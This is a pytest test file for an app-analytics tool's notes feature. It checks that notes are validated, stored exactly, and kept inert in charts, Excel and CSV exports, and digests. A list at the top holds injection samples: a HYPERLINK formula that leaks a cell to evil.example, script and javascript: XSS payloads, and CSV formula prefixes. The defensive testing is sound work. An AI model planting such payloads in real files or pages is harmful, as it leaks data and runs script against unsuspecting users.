"""Notes (issue 16): checked when written, kept in both stores byte for byte, and inert wherever
they are shown: on a chart, in the workbook, in the CSV and in the digest."""

from __future__ import annotations

import csv
import html
import io
import json
import os
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest

from wxdata.core.apps import AppInfo
from wxdata.core.errors import ConfigError, DateError
from wxdata.core.notes import ALL_APPS, MAX_NOTE_CHARS, Note, check_text, notes_for
from wxdata.core.periods import Week, today_cst
from wxdata.digest import content, messages
from wxdata.present import export
from wxdata.present.charts.context import NOTE_LABEL_CHARS, with_notes
from wxdata.sources.demo import DemoSource, demo_notes
from wxdata.store.admin import AdminState
from wxdata.store.sent import AlertState

#: Texts that would do something somewhere if they were not kept as text.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "<script>alert(1)</script><b>bold</b>",
    "**bold** _it_ # heading",
    "[x](javascript:alert(1)) ![p](https://evil.example/p.png)",
    "+1 campaign",
    "-2% after the outage",
    "@SUM(A1:A9)",
    "上线 v2.0 & <i>a</i> &amp;",
)
DAY = date(2026, 3, 2)


def note(text: str = "v2.0 上线", app_id: str = "wx1", first: date = DAY,
         last: date | None = None) -> Note:
    return Note.new(app_id, first, last, text, author="pm@corp.cn")


# -- what a note may be ---------------------------------------------------------------------


def test_a_note_too_long_is_refused_naming_its_length_and_the_limit() -> None:
    with pytest.raises(ConfigError) as caught:
        note("长" * (MAX_NOTE_CHARS + 5))
    assert caught.value.code == "note_too_long"
    assert f"{MAX_NOTE_CHARS + 5}" in caught.value.message("en")
    assert f"at most {MAX_NOTE_CHARS}" in caught.value.message("en")
    assert f"最多 {MAX_NOTE_CHARS} 个" in caught.value.message("zh")
    assert check_text("长" * MAX_NOTE_CHARS) == "长" * MAX_NOTE_CHARS


@pytest.mark.parametrize(("text", "code"), [("   ", "note_empty"), ("a\nb", "note_control"),
                                            ("a\x1b[31m", "note_control"),
                                            ("abc\u202egnp.exe", "note_control")])
def test_an_empty_or_multi_line_note_or_one_with_control_characters_is_refused(
        text: str, code: str) -> None:
    with pytest.raises(ConfigError) as caught:
        note(text)
    assert caught.value.code == code
    assert "try again" in caught.value.message("en") or "write" in caught.value.message("en")


def test_a_range_ending_before_it_starts_is_refused() -> None:
    with pytest.raises(DateError):
        note(first=DAY, last=DAY - timedelta(days=1))
    with pytest.raises(ConfigError, match="366"):
        note(first=DAY, last=DAY + timedelta(days=400))


def test_notes_for_an_app_are_its_own_and_those_about_every_app_that_overlap() -> None:
    mine = note("mine", first=DAY, last=DAY + timedelta(days=6))
    every = note("every", app_id=ALL_APPS, first=DAY + timedelta(days=3))
    other = note("other", app_id="wx2")
    late = note("late", first=DAY + timedelta(days=60))
    found = notes_for([late, every, other, mine], "wx1", DAY, DAY + timedelta(days=30))
    assert [n.text for n in found] == ["mine", "every"]


# -- the store ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_note_round_trips_byte_for_byte_in_both_stores(store_url: str, text: str) -> None:
    state = AdminState(store_url)
    stored = state.add_note(note(text, first=DAY, last=DAY + timedelta(days=2)))
    again = AdminState(store_url).notes(["wx1"])  # another process: another connection
    assert [(n.id, n.text, n.first, n.last, n.app_id, n.author) for n in again] == [
        (stored.id, text, DAY, DAY + timedelta(days=2), "wx1", "pm@corp.cn")]
    assert again[0].text.encode("utf-8") == text.encode("utf-8")


def test_notes_are_edited_and_removed_and_every_app_notes_are_everyones(store_url: str) -> None:
    state = AdminState(store_url)
    first = state.add_note(note("release"))
    every = state.add_note(note("outage", app_id=ALL_APPS))
    state.add_note(note("theirs", app_id="wx2"))
    assert [n.text for n in state.notes(["wx1"])] == ["release", "outage"]
    assert state.update_note(first.edited(text="release 2.0.1", last=DAY + timedelta(days=1),
                                          author="lead@corp.cn"))
    changed = next(n for n in state.notes(["wx1"]) if n.id == first.id)
    assert (changed.text, changed.last, changed.author) == ("release 2.0.1",
                                                           DAY + timedelta(days=1),
                                                           "lead@corp.cn")
    removed = state.remove_note(every.id)
    assert removed is not None and removed.text == "outage"
    assert state.remove_note(every.id) is None
    assert not state.update_note(every)  # removed meanwhile: nothing is written
    assert sorted(n.text for n in state.notes()) == ["release 2.0.1", "theirs"]


def test_the_alerts_and_the_notes_share_a_store_without_touching_each_other(
        store_url: str) -> None:
    notes, alerts = AdminState(store_url), AlertState(store_url)
    notes.add_note(note())
    assert alerts.claim("d", "drop", "wx1", "2026-W10")
    assert [n.text for n in notes.notes()] == ["v2.0 上线"]
    assert alerts.sent() == [("d", "drop", "wx1", "2026-W10", "sending")]


def test_a_stored_note_that_no_longer_passes_its_checks_is_left_out(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/c.sqlite3"
    state = AdminState(url)
    state.add_note(note("fine"))
    bad = note("x")
    state.add_note(Note(bad.app_id, bad.first, bad.last, "line\nbreak", "someone"))
    assert [n.text for n in state.notes()] == ["fine"]


# -- charts --------------------------------------------------------------------------------


def _trend() -> go.Figure:
    xs = [DAY - timedelta(weeks=4) + timedelta(weeks=k) for k in range(8)]
    return go.Figure(go.Scatter(x=xs, y=list(range(8))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_note_on_a_chart_is_escaped_text_and_the_cached_figure_is_untouched(
        text: str) -> None:
    fig = _trend()
    before = json.loads(fig.to_json())
    drawn = with_notes(fig, [note(text)], "en")
    assert json.loads(fig.to_json()) == before
    (label,) = [a for a in drawn.layout.annotations if a.name and a.name.startswith("note:")]
    shown = text if len(text) <= NOTE_LABEL_CHARS else text[:NOTE_LABEL_CHARS - 1] + "…"
    assert label.text == html.escape(shown, quote=False)
    assert "<" not in label.text and "<" not in label.hovertext
    assert html.unescape(label.hovertext).endswith(text)  # whole, in the hover


def test_a_range_is_a_band_a_day_a_line_and_notes_off_the_axis_are_not_drawn() -> None:
    drawn = with_notes(_trend(), [note("day"), note("range", first=DAY, last=DAY + timedelta(
        days=6)), note("far", first=DAY + timedelta(days=400))], "zh")
    kinds = sorted((s.type, s.name) for s in drawn.layout.shapes)
    assert [k for k, _ in kinds] == ["line", "rect"]
    assert sorted(a.text for a in drawn.layout.annotations) == ["day", "range"]
    offsets = go.Figure(go.Scatter(x=[0, 1, 2, 3], y=[1, 0.5, 0.4, 0.3]))
    assert with_notes(offsets, [note()], "zh") is offsets  # no time axis: nothing to mark


# -- exports -------------------------------------------------------------------------------


def _tidy() -> tuple[pd.DataFrame, AppInfo]:
    source = DemoSource()
    app = source.apps()[0]
    return source.load([app.appid], list(Week.last_n(6))).frame, app


def test_the_workbook_keeps_each_note_as_a_string_cell_never_a_formula() -> None:
    frame, app = _tidy()
    notes = [note(text, app_id=app.appid) for text in HOSTILE]
    notes.append(note("全员故障", app_id=ALL_APPS))
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(
        frame, names={app.appid: app.name}, lang="en", notes=notes)))
    ws = book[export.sheet_title(export.NOTES_SHEET, "en")]
    header = [c.value for c in ws[1]]
    assert header == [export.column_title(c, "week", "en") for c in export.NOTE_COLUMNS]
    column = header.index(export.column_title("note_text", "week", "en"))
    cells = [row[column] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*HOSTILE, "全员故障"]
    assert {c.data_type for c in cells} == {"s"}  # a string, shown as typed, never calculated
    apps = [row[header.index(export.column_title("app_name", "week", "en"))].value
            for row in ws.iter_rows(min_row=2)]
    assert apps[-1] == "All apps" and apps[0] == app.name
    first = ws.cell(2, 1)
    assert first.is_date and first.value.date() == DAY
    assert export.sheet_title("tidy", "en") in book.sheetnames  # the tidy sheet is still there


def test_without_notes_the_workbook_has_no_notes_sheet() -> None:
    frame, _ = _tidy()
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(frame, lang="zh")))
    assert export.sheet_title(export.NOTES_SHEET, "zh") not in book.sheetnames


def test_the_notes_csv_defuses_every_formula_and_keeps_the_rest_as_typed() -> None:
    notes = [note(text) for text in HOSTILE]
    rows = list(csv.DictReader(io.StringIO(export.notes_to_csv_bytes(notes).decode(
        export.CSV_ENCODING))))
    assert list(rows[0]) == list(export.NOTE_COLUMNS)
    for row, text in zip(rows, HOSTILE, strict=True):
        risky = text.startswith(export.FORMULA_PREFIXES)
        assert row["note_text"] == ("'" + text if risky else text)
        assert row["note_first"] == DAY.isoformat()


def test_the_cohort_grid_download_is_the_matrix_sheets_in_the_readers_language() -> None:
    frame, app = _tidy()
    for lang in ("zh", "en"):
        book = openpyxl.load_workbook(io.BytesIO(export.matrix_to_xlsx_bytes(
            frame, names={app.appid: app.name}, lang=lang)))
        assert book.sheetnames == [export.sheet_title("matrix_new", lang),
                                   export.sheet_title("matrix_active", lang)]
        ws = book.worksheets[0]
        titles = [c.value for c in ws[1]]
        assert export.column_title("W1", "week", lang) in titles
        assert ws.max_row - 1 == frame[frame["metric"] == "new"]["cohort_start"].nunique()


# -- the digest ----------------------------------------------------------------------------


def test_the_digest_repeats_recent_notes_as_text_in_every_channel() -> None:
    source = DemoSource()
    apps = source.apps()[:1]
    app: AppInfo = apps[0]
    loads = {"week": source.load([app.appid], list(content.span("week")))}
    today = today_cst()
    recent = note("[x](javascript:alert(1)) <b>**v3**</b>", app_id=app.appid,
                  first=today - timedelta(days=3))
    old = note("old", app_id=app.appid, first=today - timedelta(days=90))
    made = content.build("d", apps, loads, "en", "", notes=[recent, old])
    assert made.apps[0].notes == (recent,)
    block = messages.markdown_block(made.apps[0], "en")
    line = next(x for x in block.splitlines() if recent.span in x)
    assert "](" not in line and "<b>" not in line and "**" not in line
    assert messages.plain_block(made.apps[0], "en").endswith(f"{recent.span}: {recent.text}")
    mail = messages.html_block(made.apps[0], "en", None)
    assert f"<li>{recent.span}: {html.escape(recent.text)}</li>" in mail
    assert "<b>**v3" not in mail


def test_the_digest_reads_the_stores_notes_and_the_demos_by_default() -> None:
    source = DemoSource()
    apps = source.apps()
    AdminState(os.environ["WXDATA_CACHE_URL"]).add_note(
        note("全员:春节值班", app_id=ALL_APPS, first=today_cst() - timedelta(days=1)))
    found = content.stored_notes([a.appid for a in apps])
    assert "全员:春节值班" in [n.text for n in found]
    assert {n.id for n in found} >= {n.id for own in demo_notes().values() for n in own}


def test_a_heatmap_pins_a_note_to_the_rows_of_the_cohorts_it_is_about() -> None:
    from wxdata.analytics.cohort import cohort_matrix
    from wxdata.present import charts
    from wxdata.present.charts.context import row_notes

    frame, app = _tidy()
    rates = cohort_matrix(frame, metric="new", values="rate", app_id=app.appid)
    users = cohort_matrix(frame, metric="new", values="users", app_id=app.appid)
    fig = charts.heatmap(rates, users, lang="en")
    starts = list(rates.index)
    inside = note("<b>sale</b>", app_id=app.appid, first=starts[2].date() + timedelta(days=2))
    before = json.loads(fig.to_json())
    drawn = row_notes(fig, [inside], starts, "week", "en")
    assert json.loads(fig.to_json()) == before  # the cached figure is untouched
    (pin,) = [a for a in drawn.layout.annotations if str(a.name).startswith("note:")]
    main = [d for d in drawn.data if d.type == "heatmap" and d.showscale is not False][-1]
    assert pin.y == main.y[2] and pin.text == "※ &lt;b&gt;sale&lt;/b&gt;"
    assert row_notes(fig, [inside], starts[1:], "week", "en") is fig  # rows not those: none
